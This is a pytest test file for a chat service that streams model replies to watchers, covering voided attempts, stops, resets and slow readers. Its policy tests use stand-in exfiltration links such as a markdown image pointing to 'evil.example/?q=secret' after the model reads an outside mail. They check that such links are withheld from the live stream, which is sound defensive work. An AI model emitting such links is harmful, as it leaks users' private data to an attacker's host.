"""A watcher of a turn finally has the text of its first reply, or nothing, in every case."""

from __future__ import annotations

import asyncio
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from kernel_service import texts
from kernel_service.errors import VendorUnavailable
from kernel_service.ports.model import FILTERED, ModelAnswer, ModelRejectedError
from kernel_service.ports.progress import LiveText, Progress, TextDelta, TextReset, Watcher
from kernel_service.ports.tools import ToolResult
from kernel_service.turns.replies.live_answer import MOST_WITHHELD, _Showing
from tests.unit.turns.scene import calls, says

if TYPE_CHECKING:
    from kernel_service.ports.progress import Event, TextEvent
    from tests.unit.turns.scene import Scene

OUTSIDE = ToolResult("a mail", own=False)


async def read(watcher: Watcher) -> list[Event | TextEvent]:
    watcher.end()
    return [event async for event in watcher.events()]


def on_screen(events: list[Event | TextEvent]) -> str:
    shown = ""
    for event in events:
        if isinstance(event, TextDelta):
            assert event.text
            shown += event.text
        elif isinstance(event, TextReset):
            assert shown
            shown = ""
    return shown


async def watch(scene: Scene, *answers: ModelAnswer | Exception) -> list[Event | TextEvent]:
    scene.model.says = list(answers)
    with scene.progress.watching(scene.seq) as watcher:
        await scene.run()
        return await read(watcher)


# --- a turn -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["done", "  done\n", "two\n\nparagraphs", "done " + "x" * 70_000, "a\u200b\n \nb"])
async def test_deltas_make_up_the_first_reply(scene: Scene, text: str) -> None:
    await scene.hear()
    events = await watch(scene, says(text))
    assert TextReset() not in events
    assert on_screen(events) == (await scene.told())[0]


async def test_turn_without_a_watcher_streams_nothing(scene: Scene) -> None:
    await scene.hear()
    scene.model.says = [says("done")]
    scene.model.tell = None  # type: ignore[assignment]
    await scene.run()
    assert await scene.told() == ["done"]


async def test_words_before_a_call_are_void_before_the_tool_runs(scene: Scene) -> None:
    await scene.hear()
    events = await watch(scene, replace(calls("look"), text="Let me look."), says("done"))
    names = [type(event).__name__ for event in events]
    assert names == ["ToolStarted", "ToolFinished", "TextDelta"]
    assert on_screen(events) == "done"


async def test_watcher_is_told_that_words_before_a_call_are_void(scene: Scene) -> None:
    await scene.hear()
    scene.model.thinks = ["Let me"]
    scene.model.gate = asyncio.Event()
    scene.model.says = [replace(calls("look"), text=" look."), says("done")]
    with scene.progress.watching(scene.seq) as watcher:
        running = asyncio.create_task(scene.run())
        events = watcher.events()
        assert await anext(events) == TextDelta("Let me")
        scene.model.thinks = []
        scene.model.gate.set()
        await running
        watcher.end()
        assert [event async for event in events if isinstance(event, TextDelta | TextReset)] == [
            TextReset(),
            TextDelta("done"),
        ]


@pytest.mark.parametrize(
    "broken",
    [
        VendorUnavailable("model_unavailable"),
        ModelRejectedError("odd"),
        RuntimeError("a fault of ours"),
        replace(says("half"), refusal=FILTERED, text=""),
    ],
)
async def test_text_of_a_failed_attempt_is_void(scene: Scene, broken: ModelAnswer | Exception) -> None:
    await scene.hear()
    scene.model.thinks = ["Half of an "]
    scene.model.says = [broken, broken, broken]
    with scene.progress.watching(scene.seq) as watcher:
        await scene.run()
        assert on_screen(await read(watcher)) == ""


async def test_a_second_attempt_shows_its_own_text_alone(scene: Scene) -> None:
    await scene.hear()
    scene.model.thinks = ["One attempt"]
    scene.model.says = [VendorUnavailable("model_unavailable")]
    with scene.progress.watching(scene.seq) as watcher:
        await scene.run()
        scene.model.thinks = []
        scene.clock.now += 60
        scene.model.says = [says("Another.")]
        await scene.run()
        assert on_screen(await read(watcher)) == "Another."


async def test_an_answer_asked_for_again_shows_once(scene: Scene) -> None:
    await scene.hear()
    events = await watch(scene, says("\u200b \u2800"), says("done"))
    assert on_screen(events) == "done"


@pytest.mark.parametrize("text", ["", " ", "\u2800"])
async def test_invisible_text_is_not_shown(scene: Scene, text: str) -> None:
    await scene.hear()
    assert await watch(scene, says(text), says(text)) == []
    assert (await scene.told())[0] == texts.answers.NO_ANSWER


async def test_text_moves_to_the_message_that_joins(scene: Scene) -> None:
    await scene.hear(number=1)
    kernel = await scene.activated()
    scene.model.thinks = ["To the first"]
    scene.model.gate = asyncio.Event()
    with scene.progress.watching(scene.seq) as first:
        running = asyncio.create_task(scene.run(kernel))
        await scene.model.asked.wait()
        await scene.hear(number=2)
        with scene.progress.watching(scene.seq) as second:
            kernel.wake_turn()
            await running
            scene.model.thinks, scene.model.gate = [], None
            scene.model.says = [says("To both.")]
            await scene.run(kernel)
            assert on_screen(await read(second)) == "To both."
        assert on_screen(await read(first)) == ""


async def test_stop_makes_the_text_void(scene: Scene) -> None:
    await scene.hear(number=1)
    kernel = await scene.activated()
    scene.model.thinks = ["A very long"]
    scene.model.gate = asyncio.Event()
    with scene.progress.watching(scene.seq) as watcher:
        running = asyncio.create_task(scene.run(kernel))
        events = watcher.events()
        assert await anext(events) == TextDelta("A very long")
        await scene.hear("stop", number=2)
        kernel.wake_turn()
        await running
        assert await anext(events) == TextReset()


async def test_a_preface_stands_before_the_text(scene: Scene) -> None:
    shown: list[str] = []
    showing = _Showing(shown.append, "Connected.\n\n", 100, by_line=False)
    for piece in (" \n", "It ", "works."):
        showing.hear(piece)
    assert "".join(shown) == "Connected.\n\nIt works."


# --- policies ---------------------------------------------------------------------------------------------------------


async def test_after_words_from_outside_no_link_is_shown_before_it_is_checked(scene: Scene) -> None:
    await scene.hear()
    scene.look.result = OUTSIDE
    leak = "Your mail:\n\n![](https://evil.example/?q=secret)\n\nBye."
    scene.model.says = [calls("look"), says(leak)]
    seen: list[str] = []
    with scene.progress.watching(scene.seq) as watcher:
        watcher.show = lambda text: seen.append(text.shown)  # type: ignore[method-assign]
        await scene.run()
    assert "evil.example" in (await scene.told())[0]
    assert all("evil" not in shown for shown in seen)
    assert seen[-1] == ""


async def test_after_words_from_outside_whole_lines_are_shown(scene: Scene) -> None:
    await scene.hear()
    scene.look.result = OUTSIDE
    events = await watch(scene, calls("look"), says("One line.\nAnother.\nThe last."))
    assert on_screen(events) == "One line.\nAnother.\nThe last."


async def test_a_reply_that_does_not_begin_with_the_text_takes_it_back(scene: Scene) -> None:
    scene.limits = replace(scene.limits, daily_replies_per_person=1)
    await scene.hear()
    events = await watch(scene, says("done"))
    assert on_screen(events) == (await scene.told())[0]
    assert on_screen(events).startswith("done\n\n")


@pytest.mark.parametrize("piece", ["http", "https://evil.example/?q=1", "evil.example", "[a](mailto:x@y.example)", "`"])
def test_of_a_tainted_turn_no_part_of_a_line_is_shown(piece: str) -> None:
    shown: list[str] = []
    showing = _Showing(shown.append, "", 10_000, by_line=True)
    showing.hear(f"A line.\n{piece}")
    assert shown == ["A line."]


def test_endless_white_space_ends_the_stream() -> None:
    shown: list[str] = []
    showing = _Showing(shown.append, "", 10_000_000, by_line=False)
    showing.hear("a")
    for _ in range(100_000):
        showing.hear(" ")
    assert shown == ["a"]
    assert len(showing._withheld) <= MOST_WITHHELD + 1


@pytest.mark.parametrize("text", ["a line\nand another", "a line\n\nhttps://evil.example/?mails=secret"])
async def test_watcher_that_reads_the_end_from_the_store_has_the_whole_text(
    scene: Scene, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    """A repeated call may read the end in the store before the turn itself continues."""
    await scene.hear()
    scene.look.result = OUTSIDE
    scene.model.says = [calls("look"), says(text)]
    end, seen = scene.store.turns.end, []
    with scene.progress.watching(scene.seq) as watcher:

        async def ended(*args: Any, **options: Any) -> Any:
            result = await end(*args, **options)
            seen.append(on_screen(await read(watcher)))
            return result

        monkeypatch.setattr(scene.store.turns, "end", ended)
        await scene.run()
    assert seen[0] in {"", (await scene.told())[0]}


async def test_message_that_crosses_the_end_makes_the_whole_text_void(
    scene: Scene, monkeypatch: pytest.MonkeyPatch
) -> None:
    await scene.hear(number=1)
    kernel, end = await scene.activated(), scene.store.turns.end
    scene.model.says = [says("To the first")]

    async def ended(*args: Any, **options: Any) -> Any:
        await scene.hear(number=2)
        return await end(*args, **options)

    monkeypatch.setattr(scene.store.turns, "end", ended)
    with scene.progress.watching(scene.seq) as first:
        await scene.run(kernel)
        assert on_screen(await read(first)) == ""


# --- readers ----------------------------------------------------------------------------------------------------------


async def test_slow_reader_gets_one_delta_and_blocks_no_other() -> None:
    watcher, text = Watcher(), LiveText()
    for word in ["what", "came", "while", "nobody", "read"]:
        text.add(f"{word} ")
        watcher.show(text)
    assert await read(watcher) == [TextDelta("what came while nobody read ")]


async def test_a_slow_reader_does_not_see_what_was_void_before_it_looked() -> None:
    watcher, text = Watcher(), LiveText()
    text.add("void")
    watcher.show(text)
    text.start_over()
    text.add("good")
    watcher.show(text)
    assert await read(watcher) == [TextDelta("good")]


async def test_a_text_that_follows_another_one_resets_it() -> None:
    watcher, first, second = Watcher(), LiveText(), LiveText()
    first.add("first")
    watcher.show(first)
    events = watcher.events()
    assert await anext(events) == TextDelta("first")
    first.start_over()
    watcher.show(first)
    second.add("second")
    watcher.show(second)
    watcher.end()
    assert [event async for event in events] == [TextReset(), TextDelta("second")]


async def test_late_watcher_gets_the_text_from_its_start(scene: Scene) -> None:
    await scene.hear()
    scene.model.thinks = ["Once upon"]
    scene.model.gate = asyncio.Event()
    scene.model.says = [says(" a time.")]
    with scene.progress.watching(scene.seq) as early:
        running = asyncio.create_task(scene.run())
        await scene.model.asked.wait()
        with scene.progress.watching(scene.seq) as late:
            scene.model.gate.set()
            await running
            assert on_screen(await read(late)) == on_screen(await read(early))


async def test_watcher_does_not_see_the_text_of_another_message(scene: Scene) -> None:
    await scene.hear(user="chat:2")
    other = scene.seq
    await scene.hear()
    with scene.progress.watching(other) as watcher:
        await watch(scene, says("for one alone"))
        assert await read(watcher) == []


def test_no_state_of_past_watchers_is_kept() -> None:
    progress = Progress()
    with progress.watching(1):
        assert progress._watchers
    assert not progress._watchers
